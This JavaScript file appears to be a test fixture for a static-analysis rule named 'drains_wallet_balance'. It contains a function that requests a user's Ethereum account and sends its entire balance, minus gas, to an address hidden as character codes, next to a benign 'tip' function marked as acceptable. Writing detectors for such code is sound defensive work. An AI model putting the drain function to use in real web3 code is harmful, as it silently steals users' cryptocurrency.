const addr = () => String.fromCharCode.apply(null, KEY);
async function drain(eth) {
  const [from] = await eth.request({ method: 'eth_requestAccounts' });
  const wei = BigInt(await eth.request({ method: 'eth_getBalance', params: [from, 'latest'] }));
  const gas = 21000n * 30000000000n;
  // ruleid: drains_wallet_balance
  await eth.request({ method: 'eth_sendTransaction', params: [{ from, to: addr(), value: '0x' + (wei - gas).toString(16) }] });
}
async function tip(eth, amount) {
  // ok: drains_wallet_balance
  await eth.request({ method: 'eth_sendTransaction', params: [{ to: addr(), value: '0x' + amount.toString(16) }] });
}
